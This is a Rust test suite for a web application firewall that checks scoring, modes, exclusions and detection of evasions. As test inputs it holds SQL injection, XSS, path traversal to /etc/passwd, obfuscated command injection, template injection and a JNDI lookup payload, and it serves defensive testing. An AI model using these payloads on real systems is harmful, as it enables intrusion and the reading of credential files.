//! Engine-level tests: scoring, modes, paranoia, exclusions and the
//! evasions the WAF must see through.

use super::*;

fn waf() -> Waf {
    Waf::new().expect("built-in rules compile")
}

fn get(target: &str) -> RequestView<'_> {
    RequestView {
        method: "GET",
        target,
        headers: &[],
        body: b"",
    }
}

fn post<'a>(
    target: &'a str,
    headers: &'a [(&'a str, &'a [u8])],
    body: &'a [u8],
) -> RequestView<'a> {
    RequestView {
        method: "POST",
        target,
        headers,
        body,
    }
}

fn blocked(v: &Verdict) -> bool {
    v.decision == Decision::Block
}

#[test]
fn ordinary_requests_pass_with_no_matches() {
    let v = waf().inspect(
        &get("/search?q=caf%C3%A9+cr%C3%A8me&page=2"),
        &SiteWafConfig::default(),
    );
    assert_eq!(v.decision, Decision::Pass);
    assert!(v.matches.is_empty(), "{:?}", v.rule_ids());
}

#[test]
fn sql_injection_in_a_query_argument_blocks_with_class_and_fragment() {
    let v = waf().inspect(
        &get("/item?id=1%27%20OR%20%271%27=%271"),
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
    assert_eq!(v.class(), Some(Class::Sqli));
    assert!(v.score >= 5);
    let m = v
        .matches
        .iter()
        .find(|m| m.rule.id == 2001)
        .expect("libinjection match");
    assert_eq!((m.location, m.name.as_str()), ("ARGS", "id"));
    assert!(m.fragment.contains("OR"), "{}", m.fragment);
}

#[test]
fn detect_mode_reports_but_passes() {
    let site = SiteWafConfig {
        mode: Mode::Detect,
        ..Default::default()
    };
    let v = waf().inspect(&get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), &site);
    assert_eq!(v.decision, Decision::Pass);
    assert!(v.threshold_reached);
    assert_eq!(v.class(), Some(Class::Xss));
}

#[test]
fn off_mode_inspects_nothing() {
    let site = SiteWafConfig {
        mode: Mode::Off,
        ..Default::default()
    };
    let v = waf().inspect(&get("/?q=%3Cscript%3E"), &site);
    assert!(v.matches.is_empty());
}

#[test]
fn exclusion_by_rule_and_argument_lets_that_argument_through_only() {
    let mut site = SiteWafConfig::default();
    for rule in [3001, 3002, 3003, 3005, 3006] {
        site.exclusions.push(Exclusion {
            rule,
            path: Some("/cms".into()),
            arg: Some("html".into()),
        });
    }
    let w = waf();
    let attack = "html=%3Cscript%3Ealert(1)%3C/script%3E";
    assert!(!blocked(
        &w.inspect(&get(&format!("/cms/save?{attack}")), &site)
    ));
    assert!(blocked(
        &w.inspect(&get(&format!("/blog/save?{attack}")), &site)
    ));
    let other = "/cms/save?title=%3Cscript%3Ealert(1)%3C/script%3E";
    assert!(blocked(&w.inspect(&get(other), &site)));
}

#[test]
fn paranoia_level_enables_stricter_rules() {
    let w = waf();
    let req = get("/?q=%3Cb%3Ebold%3C/b%3E");
    assert!(!w
        .inspect(&req, &SiteWafConfig::default())
        .matches
        .iter()
        .any(|m| m.rule.id == 3008));
    let strict = SiteWafConfig {
        paranoia: 2,
        ..Default::default()
    };
    assert!(w
        .inspect(&req, &strict)
        .matches
        .iter()
        .any(|m| m.rule.id == 3008));
}

#[test]
fn threshold_decides_blocking() {
    let w = waf();
    let req = get("/a%3Fx=1");
    let v = w.inspect(&req, &SiteWafConfig::default());
    assert_eq!(v.rule_ids(), vec![1007]);
    assert!(!blocked(&v));
    let tight = SiteWafConfig {
        threshold: 3,
        ..Default::default()
    };
    assert!(blocked(&w.inspect(&req, &tight)));
}

#[test]
fn oversized_body_is_refused_or_prefix_inspected_as_configured() {
    let w = waf();
    let mut body = b"q=hello&".to_vec();
    body.resize(300, b'a');
    let ct: &[(&str, &[u8])] = &[("Content-Type", b"application/x-www-form-urlencoded")];
    let prefix = SiteWafConfig {
        body_limit: 100,
        oversize: Oversize::InspectPrefix,
        ..Default::default()
    };
    assert!(!blocked(&w.inspect(&post("/", ct, &body), &prefix)));
    // The default refuses field bodies (form, JSON, text) past the limit,
    // as CRS does, but inspects only the prefix of uploads.
    let default = SiteWafConfig {
        body_limit: 100,
        ..Default::default()
    };
    assert_eq!(default.oversize, Oversize::RefuseFields);
    let json: &[(&str, &[u8])] = &[("Content-Type", b"application/json")];
    let mut doc = br#"{"a":""#.to_vec();
    doc.resize(300, b'a');
    doc.extend_from_slice(br#""}"#);
    for (headers, body) in [(ct, &body), (json, &doc)] {
        let v = w.inspect(&post("/", headers, body), &default);
        assert!(blocked(&v));
        assert_eq!(v.rule_ids(), vec![1011]);
    }
    let upload: &[(&str, &[u8])] = &[("Content-Type", b"application/octet-stream")];
    let binary = vec![0xffu8; 300];
    assert!(!blocked(&w.inspect(&post("/", upload, &binary), &default)));
    let mp: &[(&str, &[u8])] = &[("Content-Type", b"multipart/form-data; boundary=b")];
    let mut parts =
        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\n".to_vec();
    parts.resize(300, b'x');
    assert!(!blocked(&w.inspect(&post("/", mp, &parts), &default)));
    let refuse = SiteWafConfig {
        body_limit: 100,
        oversize: Oversize::Refuse,
        ..Default::default()
    };
    let v = w.inspect(&post("/", ct, &body), &refuse);
    assert!(blocked(&v));
    assert_eq!(v.rule_ids(), vec![1011]);
}

#[test]
fn config_validation_names_the_field() {
    let bad = SiteWafConfig {
        paranoia: 7,
        ..Default::default()
    };
    assert_eq!(
        bad.validate().expect_err("invalid config").to_string(),
        "waf.paranoia must be 1 to 4, got 7"
    );
    let bad = SiteWafConfig {
        exclusions: vec![Exclusion {
            rule: 9999,
            path: None,
            arg: None,
        }],
        ..Default::default()
    };
    assert!(bad
        .validate()
        .expect_err("invalid config")
        .to_string()
        .contains("9999"));
    assert!(SiteWafConfig::default().validate().is_ok());
}

#[test]
fn scanner_user_agent_blocks() {
    let headers: &[(&str, &[u8])] = &[("User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)")];
    let v = waf().inspect(
        &RequestView {
            method: "GET",
            target: "/",
            headers,
            body: b"",
        },
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
    assert_eq!(v.class(), Some(Class::Scanner));
}

// Evasions listed in the issue: each must be caught.

#[test]
fn evasion_json_unicode_escapes() {
    let ct: &[(&str, &[u8])] = &[("Content-Type", b"application/json")];
    let body = br#"{"name":"\u003cscript\u003ealert(1)\u003c/script\u003e","id":"1\u0027 or \u00271\u0027=\u00271"}"#;
    let v = waf().inspect(&post("/api", ct, body), &SiteWafConfig::default());
    assert!(blocked(&v));
    let ids = v.rule_ids();
    assert!(ids.contains(&3002) && ids.contains(&2001), "{ids:?}");
}

#[test]
fn evasion_utf7_charset_is_refused() {
    let ct: &[(&str, &[u8])] = &[(
        "Content-Type",
        b"application/x-www-form-urlencoded; charset=UTF-7",
    )];
    let v = waf().inspect(
        &post("/", ct, b"q=%2BADw-script%2BAD4-alert(1)"),
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
    assert!(v.rule_ids().contains(&1002));
}

#[test]
fn evasion_mixed_case_and_inline_comments() {
    let v = waf().inspect(
        &get("/?id=-1%20UnIoN/**/SeLeCt/**/1,2,3--"),
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
    assert!(v.rule_ids().contains(&2002));
}

#[test]
fn evasion_hash_and_encoded_question_mark_in_path() {
    let w = waf();
    let v = w.inspect(
        &get("/page.php%3Fid=1%27%20or%20%271%27=%271"),
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
    assert!(v.rule_ids().contains(&1007));
    let v = w.inspect(
        &get("/page#q=%3Cscript%3Ealert(1)%3C/script%3E"),
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
}

#[test]
fn evasion_overlong_utf8_dots() {
    let v = waf().inspect(
        &get("/download?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
    let ids = v.rule_ids();
    assert!(ids.contains(&1003) && ids.contains(&4001), "{ids:?}");
}

#[test]
fn evasion_parameter_repeated_to_span_copies() {
    let v = waf().inspect(
        &get("/?id=1%20union/*&id=*/select%201,2,3"),
        &SiteWafConfig::default(),
    );
    assert!(blocked(&v));
    let m = v
        .matches
        .iter()
        .find(|m| m.rule.id == 2002)
        .expect("union select across copies");
    assert_eq!(m.location, "ARGS_JOINED");
}

#[test]
fn multipart_file_names_are_inspected() {
    let ct: &[(&str, &[u8])] = &[("Content-Type", b"multipart/form-data; boundary=b1")];
    let body = b"--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nx\r\n--b1--\r\n";
    let v = waf().inspect(&post("/upload", ct, body), &SiteWafConfig::default());
    assert!(blocked(&v));
    assert_eq!(v.class(), Some(Class::Lfi));
}

/// Header name and raw value pairs, as a request view holds them.
type Headers<'a> = &'a [(&'a str, &'a [u8])];

fn with_headers<'a>(target: &'a str, headers: &'a [(&'a str, &'a [u8])]) -> RequestView<'a> {
    RequestView {
        method: "GET",
        target,
        headers,
        body: b"",
    }
}

#[test]
fn ordinary_user_agents_referers_and_headers_pass_at_every_level() {
    let w = waf();
    let uas: [&[u8]; 6] = [
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
        b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        b"curl/8.5.0",
        b"python-requests/2.31.0",
        b"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)",
    ];
    for ua in uas {
        let headers: &[(&str, &[u8])] = &[
            ("User-Agent", ua),
            (
                "Referer",
                b"https://shop.example/list?page=2&cat=shoes&sort=price",
            ),
            ("Accept", b"text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
            (
                "Accept-Language",
                b"fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
            ),
            (
                "X-Note",
                b"Tom & Jerry's price is ${amount}; see {{ page }}",
            ),
        ];
        for pl in 1..=4 {
            let site = SiteWafConfig {
                paranoia: pl,
                ..Default::default()
            };
            let v = w.inspect(&with_headers("/item/42/don't-panic", headers), &site);
            assert!(
                !blocked(&v),
                "PL{pl} {}: {:?}",
                String::from_utf8_lossy(ua),
                v.rule_ids()
            );
        }
    }
}

#[test]
fn attacks_in_path_user_agent_headers_quoted_commands_and_templates_block_at_pl1() {
    let w = waf();
    let site = SiteWafConfig::default();
    let cases: [(&str, Headers, u32); 7] = [
        ("/item/1'%20OR%20'1'='1", &[], 2004),
        (
            "/",
            &[("User-Agent", b"' UNION SELECT password FROM users--")],
            2002,
        ),
        ("/?h=x;c''at%20/e''tc/pa''sswd", &[], 5001),
        ("/?h=x;c%5Cat%20/etc/passwd", &[], 5001),
        ("/?h=x;c$@at%20/etc/passwd", &[], 5001),
        ("/?n={{7*7}}{{config.__class__}}", &[], 7001),
        ("/", &[("X-Api-Version", b"${jndi:ldap://x/a}")], 7004),
    ];
    for (target, headers, rule) in cases {
        let v = w.inspect(&with_headers(target, headers), &site);
        assert!(blocked(&v), "{target}: {:?}", v.rule_ids());
        assert!(v.rule_ids().contains(&rule), "{target}: {:?}", v.rule_ids());
    }
    // A header beyond the usual ones gets every detector from PL2.
    let sqli: &[(&str, &[u8])] = &[("X-Search", b"1' UNION SELECT password FROM users--")];
    assert!(!blocked(&w.inspect(&with_headers("/", sqli), &site)));
    let pl2 = SiteWafConfig {
        paranoia: 2,
        ..Default::default()
    };
    assert!(blocked(&w.inspect(&with_headers("/", sqli), &pl2)));
}
